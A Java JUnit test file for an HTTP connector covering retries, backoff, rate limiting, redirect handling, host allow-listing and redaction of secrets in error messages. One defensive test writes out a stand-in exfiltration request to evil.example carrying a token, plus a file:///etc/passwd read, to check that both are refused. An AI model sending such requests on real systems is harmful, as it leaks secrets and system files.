package io.serai.connector;

import static com.github.tomakehurst.wiremock.client.WireMock.aResponse;
import static com.github.tomakehurst.wiremock.client.WireMock.any;
import static com.github.tomakehurst.wiremock.client.WireMock.anyRequestedFor;
import static com.github.tomakehurst.wiremock.client.WireMock.anyUrl;
import static com.github.tomakehurst.wiremock.client.WireMock.ok;
import static com.github.tomakehurst.wiremock.stubbing.Scenario.STARTED;
import static java.nio.charset.StandardCharsets.UTF_8;
import static org.assertj.core.api.Assertions.assertThat;

import com.github.tomakehurst.wiremock.client.ResponseDefinitionBuilder;
import com.github.tomakehurst.wiremock.http.Fault;
import io.serai.spi.ConnectorException;
import io.serai.spi.ConnectorException.Kind;
import io.serai.spi.HttpDoor.Request;
import io.serai.spi.HttpDoor.Response;
import java.io.IOException;
import java.io.UncheckedIOException;
import java.net.InetAddress;
import java.net.ServerSocket;
import java.net.Socket;
import java.time.Duration;
import java.util.List;
import java.util.Map;
import java.util.Optional;
import org.junit.jupiter.api.AutoClose;
import org.junit.jupiter.api.Test;

class PatientDoorTest {

    @AutoClose
    private final Lab lab = new Lab();

    private final PatientDoor door = door(Patience.USUAL, Optional.empty());

    @Test
    void a_wait_in_seconds_is_obeyed() {
        first(aResponse().withStatus(429).withHeader("Retry-After", "7"));

        assertThat(door.send(get("/x")).status()).isEqualTo(200);
        assertThat(lab.clock.pauses).containsExactly(Duration.ofSeconds(7));
    }

    @Test
    void a_wait_until_a_date_is_obeyed() {
        first(aResponse().withStatus(503).withHeader("Retry-After", "Sun, 22 Nov 2026 10:00:30 GMT"));

        assertThat(door.send(get("/x")).status()).isEqualTo(200);
        assertThat(lab.clock.pauses).containsExactly(Duration.ofSeconds(30));
    }

    @Test
    void a_wait_that_is_too_long_is_handed_to_the_hub() {
        first(aResponse().withStatus(429).withHeader("Retry-After", "3600"));

        ConnectorException failure = Lab.failure(() -> door.send(get("/x")));

        assertThat(failure.kind()).isEqualTo(Kind.RATE_LIMITED);
        assertThat(failure.retryAfter()).isEqualTo(Duration.ofHours(1));
        assertThat(lab.clock.pauses).isEmpty();
    }

    @Test
    void a_failing_system_is_given_time_that_doubles_until_patience_ends() {
        lab.server.stubFor(any(anyUrl()).willReturn(aResponse().withStatus(502)));

        ConnectorException failure = Lab.failure(() -> door.send(get("/x")));

        assertThat(failure.kind()).isEqualTo(Kind.TRANSIENT);
        assertThat(failure).hasMessageContaining("GET " + lab.url() + "/x failed: the system answered 502");
        assertThat(lab.clock.pauses).hasSize(5);
        for (int i = 0; i < 5; i++) {
            assertThat(lab.clock.pauses.get(i)).isBetween(Duration.ofMillis(250L << i), Duration.ofMillis(500L << i));
        }
    }

    @Test
    void broken_connections_and_cut_bodies_are_tried_again() {
        first(aResponse().withFault(Fault.CONNECTION_RESET_BY_PEER));
        assertThat(door.send(get("/x")).status()).isEqualTo(200);

        lab.server.resetAll();
        first(aResponse().withStatus(200).withFault(Fault.MALFORMED_RESPONSE_CHUNK));
        assertThat(door.send(get("/x")).body()).asString().isEqualTo("done");
    }

    @Test
    void a_body_that_ends_before_its_length_is_no_answer() throws IOException {
        try (ServerSocket socket = new ServerSocket(0, 1, InetAddress.getLoopbackAddress())) {
            Thread server = new Thread(() -> serve(socket, "{\"half\":", "{\"whole\":1}"));
            server.start();
            String url = "http://127.0.0.1:" + socket.getLocalPort();
            PatientDoor cut = new PatientDoor(
                    lab::transport,
                    new AllowedHosts(List.of(url)),
                    Optional.empty(),
                    Patience.USUAL,
                    lab.clock,
                    new Redaction(List.of()));

            assertThat(cut.send(new Request("GET", url, Map.of(), null, true)).body())
                    .asString()
                    .isEqualTo("{\"whole\":1}");
            assertThat(lab.clock.pauses).hasSize(1);
        }
    }

    private static void serve(ServerSocket socket, String... bodies) {
        for (String body : bodies) {
            try (Socket client = socket.accept()) {
                client.getInputStream().read(new byte[8192]);
                client.getOutputStream()
                        .write(("HTTP/1.1 200 OK\r\nConnection: close\r\nContent-Length: 11\r\n\r\n" + body)
                                .getBytes(UTF_8));
            } catch (IOException e) {
                throw new UncheckedIOException(e);
            }
        }
    }

    @Test
    void what_must_not_happen_twice_is_sent_again_only_when_nothing_happened() {
        first(aResponse().withStatus(500));
        assertThat(Lab.failure(() -> door.send(once("/x"))).kind()).isEqualTo(Kind.TRANSIENT);
        lab.server.verify(1, anyRequestedFor(anyUrl()));

        lab.server.resetAll();
        first(aResponse().withFault(Fault.EMPTY_RESPONSE));
        assertThat(Lab.failure(() -> door.send(once("/x"))).kind()).isEqualTo(Kind.TRANSIENT);
        lab.server.verify(1, anyRequestedFor(anyUrl()));

        lab.server.resetAll();
        first(aResponse().withStatus(429).withHeader("Retry-After", "1"));
        assertThat(door.send(once("/x")).status()).isEqualTo(200);
    }

    @Test
    void an_address_where_nobody_answers_is_tried_again_for_any_request() {
        Request request = once("/x");
        lab.server.stop();

        ConnectorException failure = Lab.failure(() -> door.send(request));

        assertThat(failure).hasMessageContaining("nobody answers there");
        assertThat(lab.clock.pauses).hasSize(5);
    }

    @Test
    void a_host_that_was_not_declared_is_refused_and_nothing_is_sent() {
        ConnectorException failure = Lab.failure(
                () -> door.send(new Request("GET", "https://evil.example/steal?token=s3cret", Map.of(), null, true)));

        assertThat(failure.kind()).isEqualTo(Kind.CONFIG);
        assertThat(failure).hasMessageContaining("\"evil.example\" is not one that this connector declares");
        assertThat(failure.getMessage()).doesNotContain("s3cret");
        assertThat(Lab.failure(() -> door.send(new Request("GET", "file:///etc/passwd", Map.of(), null, true)))
                        .kind())
                .isEqualTo(Kind.CONFIG);
    }

    @Test
    void only_this_machine_is_reached_without_encryption() {
        AllowedHosts hosts = new AllowedHosts(List.of("http://shop.example", lab.url()));

        assertThat(Lab.failure(() -> hosts.check("http://shop.example/x"))).hasMessageContaining("use https");
        hosts.check(lab.url() + "/x");
    }

    @Test
    void a_redirect_is_an_answer_and_never_followed() {
        lab.server.stubFor(
                any(anyUrl()).willReturn(aResponse().withStatus(302).withHeader("Location", "https://evil.example/")));

        assertThat(door.send(get("/x")).status()).isEqualTo(302);
        lab.server.verify(1, anyRequestedFor(anyUrl()));
    }

    @Test
    void no_message_has_secrets_addresses_or_query_strings() {
        lab.server.stubFor(any(anyUrl()).willReturn(aResponse().withStatus(500)));

        ConnectorException failure =
                Lab.failure(() -> door.send(get("/people/ada@bramble.test/s3cret?since=2026&q=lee@bramble.test")));

        assertThat(failure.getMessage()).doesNotContain("s3cret", "@bramble.test", "since=");
        assertThat(failure.getMessage()).contains("***");
    }

    @Test
    void an_answer_without_end_is_cut_off() {
        lab.server.stubFor(any(anyUrl()).willReturn(ok("x".repeat(3 << 20))));
        PatientDoor small = door(new Patience(1, Duration.ZERO, Duration.ZERO, 1 << 20), Optional.empty());

        assertThat(Lab.failure(() -> small.send(get("/x")))).hasMessageContaining("more than 1 MB");
    }

    @Test
    void requests_keep_to_the_limit_of_the_account() {
        lab.server.stubFor(any(anyUrl()).willReturn(ok()));
        PatientDoor polite = door(
                Patience.USUAL, Optional.of(new Throttle(RateLimit.parse("2/s").orElseThrow(), lab.clock)));
        var start = lab.clock.now;

        for (int i = 0; i < 12; i++) {
            polite.send(get("/x"));
        }

        assertThat(Duration.between(start, lab.clock.now)).isEqualTo(Duration.ofSeconds(5));
    }

    @Test
    void headers_and_body_arrive_as_they_were_given() {
        lab.server.stubFor(any(anyUrl()).willReturn(ok("päng").withHeader("X-Odd", "1, 2")));

        Response answer = door.send(new Request(
                "PATCH",
                lab.url() + "/a%20b/c?x=%C3%A4&y=1%2B1",
                Map.of("x-key", "k", "content-type", "application/json"),
                "{\"a\":\"ä\"}".getBytes(UTF_8),
                true));

        assertThat(new String(answer.body(), UTF_8)).isEqualTo("päng");
        assertThat(answer.headers()).containsEntry("x-odd", "1, 2");
        var sent = lab.server.findAll(anyRequestedFor(anyUrl())).get(0);
        assertThat(sent.getUrl()).isEqualTo("/a%20b/c?x=%C3%A4&y=1%2B1");
        assertThat(sent.getMethod().getName()).isEqualTo("PATCH");
        assertThat(sent.getHeader("x-key")).isEqualTo("k");
        assertThat(sent.getBodyAsString()).isEqualTo("{\"a\":\"ä\"}");
        assertThat(sent.getHeaders().keys()).noneMatch(name -> name.startsWith("Camel"));
    }

    private PatientDoor door(Patience patience, Optional<Throttle> throttle) {
        return new PatientDoor(
                lab::transport,
                new AllowedHosts(List.of(lab.url())),
                throttle,
                patience,
                lab.clock,
                new Redaction(List.of("s3cret")));
    }

    private Request get(String path) {
        return new Request("GET", lab.url() + path, Map.of(), null, false);
    }

    private Request once(String path) {
        return new Request("POST", lab.url() + path, Map.of(), new byte[] {'1'}, false);
    }

    private void first(ResponseDefinitionBuilder answer) {
        lab.server.stubFor(any(anyUrl())
                .inScenario("once")
                .whenScenarioStateIs(STARTED)
                .willReturn(answer)
                .willSetStateTo("over"));
        lab.server.stubFor(
                any(anyUrl()).inScenario("once").whenScenarioStateIs("over").willReturn(ok("done")));
    }
}
